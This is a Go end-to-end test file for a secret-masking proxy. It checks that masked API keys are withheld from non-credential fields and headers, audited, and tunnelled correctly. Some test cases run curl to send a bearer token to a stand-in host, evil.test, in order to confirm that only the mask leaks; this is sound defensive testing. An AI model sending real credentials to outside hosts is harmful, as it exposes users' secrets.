package e2e_test

import (
	"bytes"
	"compress/gzip"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"kz/test/bed"
	"kz/test/origin"
)

// basicOf reads the Basic credentials that the origin got.
func basicOf(r origin.Record) (user, password string, ok bool) {
	return (&http.Request{Header: r.Header}).BasicAuth()
}

// TestWithheld sends masks where they are inert: they arrive as they are, and the audit tells.
func TestWithheld(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name  string
		lay   func(b *bed.Bed)
		curl  string // arguments of curl; the URL's path is /x
		host  string
		place string // of the audit's line; "" where there is none
	}{
		{"a mask in a prompt", usual, `--json "{\"prompt\":\"my key is $API_KEY, keep it\"}" https://api.test/x`, "api.test", "body"},
		{"a mask in a prompt toward another host", usual, `--json "{\"prompt\":\"my key is $API_KEY, keep it\"}" https://other.test/x`, "other.test", "body"},
		{"a whole field of another name", usual, `--json "{\"input\":\"$API_KEY\"}" https://api.test/x`, "api.test", "body"},
		{"a credential's field toward another host", usual, `--json "{\"password\":\"$API_KEY\"}" https://other.test/x`, "other.test", "body"},
		{"a credential's field below the top", usual, `--json "{\"a\":{\"password\":\"$API_KEY\"}}" https://api.test/x`, "api.test", "body"},
		{"a credential's field with more than the mask", usual, `-d "password=x$API_KEY" https://api.test/x`, "api.test", "body"},
		{"a body that is no JSON", usual, `-H "Content-Type: text/plain" -d "password=$API_KEY" https://api.test/x`, "api.test", "body"},
		{"a named field under another Content-Type", swaps(`"body:input"`), `-H "Content-Type: text/plain" -d "input=$API_KEY" https://api.test/x`, "api.test", "body"},
		{"a pointed-at member under another Content-Type", swaps(`"body:/a/b"`), `-H "Content-Type: text/x" -d "{\"a\":{\"b\":\"$API_KEY\"}}" https://api.test/x`, "api.test", "body"},
		{"a body in an unknown coding", usual, `-H "Content-Type: application/json" -H "Content-Encoding: x-odd" -d "{\"password\":\"$API_KEY\"}" https://api.test/x`, "api.test", "body"},
		{"a body of an ended session", usual, `--json "{\"password\":\"$ENDED\"}" https://api.test/x`, "api.test", ""},
		{"a body of cleartext", usual, `-d "password=$API_KEY" http://api.test/x`, "api.test", "body"},
		{"a Cookie", usual, `-H "Cookie: a=b; s=$API_KEY" https://api.test/x`, "api.test", "header:Cookie"},
		{"a Referer toward another host", usual, `-H "Referer: https://api.test/?k=$API_KEY" https://other.test/x`, "other.test", "header:Referer"},
		{"an Origin", usual, `-H "Origin: $API_KEY" https://api.test/x`, "api.test", "header:Origin"},
		{"a User-Agent", usual, `-H "User-Agent: $API_KEY" https://api.test/x`, "api.test", "header:User-Agent"},
		{"a Via", usual, `-H "Via: 1.1 $API_KEY" https://api.test/x`, "api.test", "header:Via"},
		{"a Forwarded", usual, `-H "Forwarded: for=$API_KEY" https://api.test/x`, "api.test", "header:Forwarded"},
		{"an X-Forwarded-For", usual, `-H "X-Forwarded-For: $API_KEY" https://api.test/x`, "api.test", "header:X-Forwarded-For"},
		{"an Accept-Language", usual, `-H "Accept-Language: $API_KEY" https://api.test/x`, "api.test", "header:Accept-Language"},
		{"an If-None-Match", usual, `-H "If-None-Match: \"$API_KEY\"" https://api.test/x`, "api.test", "header:If-None-Match"},
		{"a traceparent", usual, `-H "Traceparent: $API_KEY" https://api.test/x`, "api.test", "header:Traceparent"},
		{"an X-Request-Id", usual, `-H "X-Request-Id: $API_KEY" https://api.test/x`, "api.test", "header:X-Request-Id"},
	} {
		t.Run(c.name+" is forwarded as it is", func(t *testing.T) {
			t.Parallel()
			b := bed.New(t)
			c.lay(b)
			if strings.Contains(c.curl, "$ENDED") {
				first := b.Run(shell(`printf %s "$API_KEY"`)...)
				first.Succeeds(t)
				b.Env = append(b.Env, "ENDED="+string(first.Stdout))
			}
			res := b.Run(shell(`printf 'mask: %s\n' "${ENDED:-$API_KEY}"` + "\n" + bed.Program(t, "curl") + ` -sS --fail --max-time 60 ` + c.curl)...)
			res.Succeeds(t)
			b.Clean(res)
			got := received(t, b, "/x")
			sent := field(string(res.Stdout), "mask")
			if len(got) != 1 || !mask.MatchString(sent) || !strings.Contains(string(got[0].All()), sent) {
				t.Fatalf("the mask did not arrive: %+v", got)
			}
			line := audited(t, b, c.host, "/x")
			if line.Kind != "request" || len(line.Swapped) > 0 {
				t.Errorf("the audit says %+v", line)
			}
			if c.place == "" {
				return
			}
			if !slices.ContainsFunc(line.Withheld, func(w struct{ Secret, Place, Reason string }) bool {
				return (w.Secret == "API_KEY" || w.Secret == "") && w.Place == c.place && w.Reason != ""
			}) {
				t.Errorf("the audit does not tell that it was withheld: %+v", line)
			}
		})
	}
}

// TestCodedBody sends a body in a coding that kz knows: it is decoded, swapped and coded again.
func TestCodedBody(t *testing.T) {
	t.Parallel()
	b := bed.New(t)
	value := b.Secret("API_KEY", `hosts = ["api.test"]`)
	res := b.Run(shell(`printf '{"password":"%s"}' "$API_KEY" | /bin/gzip | ` + bed.Program(t, "curl") +
		` -sS --fail -H "Content-Type: application/json" -H "Content-Encoding: gzip" --data-binary @- https://api.test/x`)...)
	res.Succeeds(t)
	b.Clean(res)
	got := received(t, b, "/x")
	z, err := gzip.NewReader(bytes.NewReader(got[0].Body))
	if err != nil {
		t.Fatal(err)
	}
	var body bytes.Buffer
	if _, err := body.ReadFrom(z); err != nil || body.String() != `{"password":"`+value+`"}` {
		t.Errorf("the origin got something else: %v", err)
	}
	if got[0].ContentLength != got[0].BodyLen {
		t.Errorf("Content-Length %d for %d bytes", got[0].ContentLength, got[0].BodyLen)
	}
}

// TestTunnel reaches a host without bindings: kz sees nothing of it, and the summary says so.
func TestTunnel(t *testing.T) {
	t.Parallel()
	b := bed.New(t)
	b.Secret("API_KEY", `hosts = ["api.test"]`)
	b.Secret("UNUSED_KEY", `hosts = ["other.test"]`)
	curl := bed.Program(t, "curl") + " -sS --fail "
	// The origin's own certificate comes through, so the child needs its root.
	res := b.Run(shell(curl + `-H "Authorization: Bearer $API_KEY" https://api.test/x && ` + curl + `--cacert ` + b.Path("etc/ca.pem") +
		` -H "Authorization: Bearer $API_KEY" https://evil.test/x`)...)
	res.Succeeds(t)
	b.Clean(res)
	for _, r := range received(t, b, "/x") {
		if r.Host == "evil.test" && !mask.MatchString(r.Header.Get("Authorization")) {
			t.Error("the tunnelled request does not hold the mask")
		}
	}
	line := tunnelled(t, b, "evil.test")
	if line.Method != "CONNECT" || line.Port != 443 || line.Path != "" || line.BytesIn == 0 || line.BytesOut == 0 || len(line.Withheld) > 0 {
		t.Errorf("the audit says %+v", line)
	}
	for _, want := range []string{"kz: API_KEY: swapped in 1 request to api.test", "kz: never swapped: UNUSED_KEY", "kz: tunnelled, unseen: evil.test", "kz: audit: " + b.AuditFile()} {
		if !strings.Contains(string(res.Stderr), want) {
			t.Errorf("the summary lacks %q:\n%s", want, res.Stderr)
		}
	}

	b.Flags = append(b.Flags, "--quiet")
	if res := b.Run("/bin/true"); res.Code != 0 || len(res.Stderr) > 0 {
		t.Errorf("--quiet: exit code %d, %s", res.Code, res.Stderr)
	}
	if info, err := os.Stat(b.AuditFile()); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("the audit file: %v %v", info, err)
	}
}

// TestLastLines has the child end while requests are under way: they are recorded none the less.
func TestLastLines(t *testing.T) {
	t.Parallel()
	for name, end := range map[string]string{"ended with the child": `kill -9 $!`, "left running by the child": `:`} {
		t.Run("a request and a tunnel "+name, func(t *testing.T) {
			t.Parallel()
			b := bed.New(t)
			b.Secret("API_KEY", `hosts = ["api.test"]`)
			curl := "exec " + bed.Program(t, "curl") + " -sS --max-time 20 "
			script := `(` + curl + `-H "X-Key: $API_KEY" https://api.test/hang >/dev/null 2>&1) &
while [ ! -e ../state/there ]; do sleep 0.05; done
` + end + `
(` + curl + `--cacert ` + b.Path("etc/ca.pem") + ` https://evil.test/hang >/dev/null 2>&1) &
while [ ! -e ../state/there2 ]; do sleep 0.05; done
` + end
			p := b.Start(shell(script)...)
			for i, mark := range []string{"state/there", "state/there2"} {
				bed.Eventually(t, "the request is there", func() bool { return len(b.Origin.Requests()) > i })
				if err := os.WriteFile(b.Path(mark), nil, 0o600); err != nil {
					t.Fatal(err)
				}
			}
			began := time.Now()
			res := p.Wait()
			res.Succeeds(t)
			if took := time.Since(began); took > 15*time.Second { // curl has 20 s
				t.Errorf("the run ended %s after the child", took)
			}
			b.Clean(res)
			if line := audited(t, b, "api.test", "/hang"); len(line.Swapped) != 1 {
				t.Errorf("the audit says %+v", line)
			}
			if line := tunnelled(t, b, "evil.test"); line.BytesOut == 0 {
				t.Errorf("the audit says %+v", line)
			}
			for _, want := range []string{"API_KEY: swapped in 1 request to api.test", "tunnelled, unseen: evil.test"} {
				if !strings.Contains(string(res.Stderr), want) {
					t.Errorf("the summary lacks %q:\n%s", want, res.Stderr)
				}
			}
		})
	}
}

// tunnelled finds the audit line of a tunnel.
func tunnelled(t *testing.T, b *bed.Bed, host string) bed.Line {
	t.Helper()
	for _, l := range b.Audit() {
		if l.Host == host && l.Kind == "tunnel" {
			return l
		}
	}
	t.Fatalf("no audit line for a tunnel to %s", host)
	return bed.Line{}
}
